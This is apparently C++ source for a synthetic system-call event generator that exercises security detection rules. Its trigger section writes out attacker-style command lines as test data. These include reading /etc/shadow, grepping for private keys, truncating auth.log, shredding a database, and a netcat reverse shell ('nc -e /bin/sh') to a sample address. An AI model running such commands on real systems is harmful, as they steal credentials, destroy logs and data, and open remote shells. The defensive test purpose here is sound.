            file_fd(e, path_for(p, r.chance(0.2)), fdnum);
        } else {
            e.set_int(f.fd_num, fdnum);
            e.set_str(f.fd_type, r.chance(0.5) ? "pipe" : "unix");
            e.set_str(f.fd_typechar, r.chance(0.5) ? "p" : "u");
            e.set_str(f.fd_name, "pipe:[" + std::to_string(100000 + r.below(900000)) + "]");
        }
        result(e, 0);
    }

    void clone_event(SyntheticEvent& e) {
        static const char* kClone[] = {"clone", "clone", "clone3", "fork", "vfork"};
        e.set_type(event_type_id_of(kClone[r.below(std::size(kClone))]));
        const Proc& p = pick_proc();
        common(e, p);
        set_arg(e, "flags",
                r.chance(0.6) ? "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|"
                                "CLONE_THREAD|CLONE_SYSVSEM"
                              : "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID");
        result(e, 20000 + static_cast<int64_t>(r.below(40000)));
    }

    void other_event(SyntheticEvent& e) {
        static const char* kOther[] = {
            "setns",    "unshare", "ptrace",   "mmap",   "mmap",        "mmap",      "chmod",
            "fchmodat", "unlink",  "unlinkat", "rename", "renameat2",   "symlinkat", "linkat",
            "dup2",     "socket",  "socket",   "sendto", "init_module", "mkdir"};
        std::string_view t = kOther[r.below(std::size(kOther))];
        e.set_type(event_type_id_of(t));
        const Proc& p = pick_proc();
        common(e, p);
        int64_t res = 0;
        if (t == "setns") {
            set_arg(e, "nstype", "CLONE_NEWNET");
        } else if (t == "unshare") {
            set_arg(e, "flags", "CLONE_NEWNS|CLONE_NEWUTS");
        } else if (t == "ptrace") {
            static const char* kReq[] = {"PTRACE_PEEKDATA", "PTRACE_GETREGS", "PTRACE_CONT",
                                         "PTRACE_GETSIGINFO"};
            set_arg(e, "request", kReq[r.below(4)]);
        } else if (t == "mmap") {
            set_arg(e, "prot", r.chance(0.3) ? "PROT_READ|PROT_EXEC" : "PROT_READ|PROT_WRITE");
            set_arg(e, "flags", "MAP_PRIVATE|MAP_ANONYMOUS");
            res = 0x7f0000000000 + static_cast<int64_t>(r.below(1 << 20)) * 4096;
        } else if (t == "chmod" || t == "fchmodat") {
            std::string path = path_for(p, true);
            set_arg(e, t == "chmod" ? "filename" : "filename", path);
            set_arg(e, "mode", "0644");
        } else if (t == "unlink" || t == "unlinkat") {
            set_arg(e, t == "unlink" ? "path" : "name", path_for(p, true));
        } else if (t == "rename" || t == "renameat2") {
            std::string from = path_for(p, true);
            set_arg(e, "oldpath", from);
            set_arg(e, "newpath", from + ".1");
        } else if (t == "symlinkat") {
            set_arg(e, "target", "/usr/lib/x86_64-linux-gnu/libfoo.so.1.2");
            set_arg(e, "linkpath", "/usr/lib/x86_64-linux-gnu/libfoo.so.1");
        } else if (t == "linkat") {
            set_arg(e, "oldpath", "/home/alice/project/a.txt");
            set_arg(e, "newpath", "/home/alice/project/b.txt");
        } else if (t == "dup2") {
            int64_t fdnum = 3 + static_cast<int64_t>(r.below(20));
            e.set_int(f.fd_num, fdnum);
            e.set_str(f.fd_type, "pipe");
            e.set_str(f.fd_typechar, "p");
            res = static_cast<int64_t>(r.below(3));
        } else if (t == "socket") {
            static const char* kDom[] = {"AF_INET", "AF_INET6", "AF_UNIX", "AF_NETLINK"};
            set_arg(e, "domain", kDom[r.below(4)]);
            set_arg(e, "type", "SOCK_STREAM");
            res = 3 + static_cast<int64_t>(r.below(100));
        } else if (t == "sendto") {
            net_fields(e, f, false, true, v4(10, 0, 1, 7), 40000, v4(10, 96, 0, 10), 53, false);
        } else if (t == "init_module") {
            // host only (modprobe by systemd-modules-load)
        } else if (t == "mkdir") {
            set_arg(e, "path", "/tmp/build-" + std::to_string(r.below(1000)));
        }
        result(e, res);
    }

    // ~1% of events: built to trigger a well-known upstream rule.
    void trigger_event(SyntheticEvent& e) {
        ++g.triggers_;
        const Proc& bash = *w.exec_parents[0];
        auto exec_as = [&](const char* exepath, const char* cmdline, const Proc& parent,
                           int container, int64_t tty) {
            e.set_type(event_type_id_of("execve"));
            Proc c;
            c.exepath = exepath;
            c.name = base_name(c.exepath);
            c.cmdline = cmdline;
            c.args = args_of(c.cmdline);
            c.user = container >= 0 ? "root" : parent.user;
            c.uid = container >= 0 ? 0 : parent.uid;
            c.cwd = parent.cwd;
            c.tty = tty;
            c.caps = c.uid == 0 ? kRootCaps : "";
            c.container = container;
            c.pid = 60000 + static_cast<int64_t>(r.below(1000));
            c.parents.push_back(&parent);
            c.parents.insert(c.parents.end(), parent.parents.begin(), parent.parents.end());
            common(e, c);
            e.set_int(f.proc_duration, 1000);
            result(e, 0);
        };
        auto find_proc = [&](std::string_view name, int container) -> const Proc& {
            for (auto& p : w.procs)
                if (p->name == name && p->container == container) return *p;
            return *w.procs[0];
        };
        switch (r.below(13)) {
        case 0: { // Read sensitive file untrusted: cat /etc/shadow
            Proc c = bash;
            c.name = "cat";
            c.exepath = "/usr/bin/cat";
            c.cmdline = "cat /etc/shadow";
            c.args = "/etc/shadow";
            c.parents.insert(c.parents.begin(), &bash);
            e.set_type(event_type_id_of("openat"));
            common(e, c);
            file_fd(e, "/etc/shadow", 3);
            e.set_int(f.is_open_read, 1);
            e.set_int(f.is_open_write, 0);
            set_arg(e, "flags", "O_RDONLY");
            result(e, 3);
            break;
        }
        case 1: // Run shell untrusted: a shell spawned by nginx
            exec_as("/bin/bash", "bash -i", find_proc("nginx", -1), -1, 0);
            break;
        case 2: // Terminal shell in container
            exec_as("/bin/sh", "sh", find_proc("containerd-shim", -1), 1, 34817);
            break;
        case 3: // Search Private Keys or Passwords
            exec_as("/usr/bin/grep", "grep -r \"BEGIN RSA PRIVATE\" /home", bash, -1, 34816);
            break;
        case 4: { // Clear Log Activities
            e.set_type(event_type_id_of("openat"));
            common(e, find_proc("bash", -1));
            file_fd(e, "/var/log/auth.log", 4);
            e.set_int(f.is_open_read, 0);
            e.set_int(f.is_open_write, 1);
            set_arg(e, "flags", "O_WRONLY|O_TRUNC");
            result(e, 4);
            break;
        }
        case 5: { // Disallowed SSH Connection Non Standard Port
            e.set_type(event_type_id_of("connect"));
            common(e, find_proc("ssh", -1));
            net_fields(e, f, false, false, v4(10, 0, 1, 7), 51000, v4(203, 0, 113, 7), 443, false);
            e.set_int(f.fd_num, 3);
            result(e, 0);
            break;
        }
        case 6: { // PTRACE attached to process
            e.set_type(event_type_id_of("ptrace"));
            Proc c = bash;
            c.name = "gdb";
            c.exepath = "/usr/bin/gdb";
            c.cmdline = "gdb -p 1234";
            c.parents.insert(c.parents.begin(), &bash);
            common(e, c);
            set_arg(e, "request", r.chance(0.5) ? "PTRACE_ATTACH" : "PTRACE_TRACEME");
            result(e, 0);
            break;
        }
        case 7: // Execution from /dev/shm
            exec_as("/dev/shm/.x", "/dev/shm/.x -d", bash, -1, 34816);
            break;
        case 8: // Fileless execution via memfd_create
            exec_as("memfd:payload", "payload", bash, -1, 34816);
            e.set_int(f.proc_memfd, 1);
            break;
        case 9: // Remove Bulk Data from Disk
            exec_as("/usr/bin/shred", "shred -u /home/alice/data.db", bash, -1, 34816);
            break;
        case 10: { // Create Symlink Over Sensitive Files
            e.set_type(event_type_id_of("symlinkat"));
            common(e, bash);
            set_arg(e, "target", "/etc/shadow");
            set_arg(e, "linkpath", "/tmp/s");
            result(e, 0);
            break;
        }
        case 11: { // Packet socket created in container
            e.set_type(event_type_id_of("socket"));
            common(e, find_proc("python3", 3));
            set_arg(e, "domain", "AF_PACKET");
            result(e, 5);
            break;
        }
        default: { // Netcat Remote Code Execution in Container
            exec_as("/usr/bin/nc", "nc -e /bin/sh 198.51.100.9 4444", find_proc("sh", 3), 3, 0);
            break;
        }
        }
    }

    static uint32_t event_type_id_of(std::string_view name) {
        auto types = known_event_types();
        auto it = std::lower_bound(types.begin(), types.end(), name);
        if (it == types.end() || *it != name)
            throw std::logic_error("synthetic events: unknown event type " + std::string(name));
        return static_cast<uint32_t>(it - types.begin());
    }

    SyntheticEvent next() {
        SyntheticEvent e;
        if (r.chance(Generator::kTriggerShare)) {
            trigger_event(e);
            return e;
        }
        double u = std::uniform_real_distribution<double>(0, 1)(g.rng_);
        if (u < 0.45)
            open_event(e);
        else if (u < 0.60)
            exec_event(e);
        else if (u < 0.70)
            net_event(e);
        else if (u < 0.80)
            close_event(e);
        else if (u < 0.90)
            clone_event(e);
        else
            other_event(e);
        return e;
    }
};

Generator Generator::realistic(uint64_t seed) {
    Generator g(Mode::Realistic, seed);
    g.world_ = std::shared_ptr<RealisticImpl::World>(RealisticImpl::build(g));
    return g;
}

SyntheticEvent Generator::next_realistic() {
    return RealisticImpl(*this).next();
}

} // namespace saker::synth
